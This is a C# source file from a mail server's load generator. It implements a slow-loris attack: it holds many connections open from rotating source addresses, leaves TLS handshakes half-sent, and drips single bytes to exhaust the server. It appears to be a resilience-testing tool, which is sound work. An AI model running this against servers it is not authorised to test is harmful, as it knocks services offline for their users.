using System.Collections.Concurrent;
using System.Diagnostics;
using System.Net;
using Orleans.Mail.LoadGenerator.Connections;
using Orleans.Mail.LoadGenerator.Measuring;

namespace Orleans.Mail.LoadGenerator.Hostile;

/// <param name="Target">The server.</param>
/// <param name="Limit">For opening them all.</param>
/// <param name="Connections">How many.</param>
/// <param name="Every">The time between two octets of a connection.</param>
/// <param name="Hold">How long it goes on.</param>
/// <param name="FirstSource">The first of the source addresses, see <see cref="Sources"/>.</param>
/// <param name="Addresses">How many source addresses take turns; 0 = the system's choice.</param>
/// <param name="Tls">The port is of TLS: every second connection shakes hands first, the others never end their handshake.</param>
internal sealed record TrickleOptions(
    IPEndPoint Target, TimeSpan Limit, int Connections, TimeSpan Every, TimeSpan Hold, int FirstSource, int Addresses, bool Tls);

/// <summary>Slow-loris: connections that send an octet now and then and never end a line, or a handshake.</summary>
internal sealed class Trickle(TrickleOptions options)
{
    private const int OpeningAtATime = 100;

    private static readonly byte[] Octet = "N"u8.ToArray();

    // A record of TLS with 512 octets of a ClientHello of 508, all but its beginning still to come.
    private static readonly byte[] Hello = [0x16, 0x03, 0x01, 0x02, 0x00, 0x01, 0x00, 0x01, 0xFC, 0x03, 0x03];

    private readonly ErrorLog errors = new();
    private readonly ConcurrentBag<ClientConnection> held = [];
    private int closed;
    private long sent;

    /// <param name="whenHeld">Called once, when the connections stand.</param>
    /// <param name="cancellationToken">Ends the run.</param>
    public async Task<Report> RunAsync(Action<Report> whenHeld, CancellationToken cancellationToken)
    {
        using var end = CancellationTokenSource.CreateLinkedTokenSource(cancellationToken);
        end.CancelAfter(options.Limit);
        var started = Stopwatch.GetTimestamp();
        await Task.WhenAll(Enumerable.Range(0, OpeningAtATime).Select(i => OpenShareAsync(i, end.Token)));
        whenHeld(Summarise("trickle", started));

        end.CancelAfter(options.Hold);
        await Task.WhenAll(held.Select((connection, i) => DripAsync(connection, i, end.Token)));
        return Summarise("trickle_end", started);
    }

    private async Task OpenShareAsync(int first, CancellationToken end)
    {
        for (var i = first; i < options.Connections && !end.IsCancellationRequested; i += OpeningAtATime)
        {
            try
            {
                held.Add(await OpenAsync(i, end));
            }
            catch (Exception lost) when (ErrorLog.IsConnectionLoss(lost))
            {
                errors.Add("connection refused", lost.Message);
            }
        }
    }

    private async Task<ClientConnection> OpenAsync(int number, CancellationToken end)
    {
        var source = options.Addresses == 0 ? null : Sources.Of(options.FirstSource + (number % options.Addresses));
        var connection = await ClientConnection.OpenAsync(options.Target, new byte[64], end, source);
        try
        {
            if (options.Tls && number % 2 == 0)
                await connection.StartTlsAsync(end);
            else if (options.Tls)
                await connection.SendAsync(Hello);
            return connection;
        }
        catch
        {
            connection.Dispose();
            throw;
        }
    }

    private async Task DripAsync(ClientConnection connection, int number, CancellationToken end)
    {
        using (connection)
        {
            try
            {
                // Not all at once.
                await Task.Delay(options.Every * ((number % 1000) / 1000.0), end);
                while (true)
                {
                    await connection.SendAsync(Octet);
                    Interlocked.Increment(ref sent);
                    await Task.Delay(options.Every, end);
                }
            }
            catch (Exception lost) when (ErrorLog.IsConnectionLoss(lost))
            {
                if (!end.IsCancellationRequested)
                    Interlocked.Increment(ref closed); // the server had enough of it, which is its right
            }
        }
    }

    private Report Summarise(string mode, long started)
    {
        var report = new Report(mode) { Succeeded = errors.Count == 0 };
        report.Add("asked", options.Connections);
        report.Add("opened", held.Count);
        report.Add("closed_by_server", closed);
        report.Add("octets", sent);
        report.Add("errors", errors.Count);
        report.Add("seconds", Stopwatch.GetElapsedTime(started).TotalSeconds, 3);
        return report;
    }
}
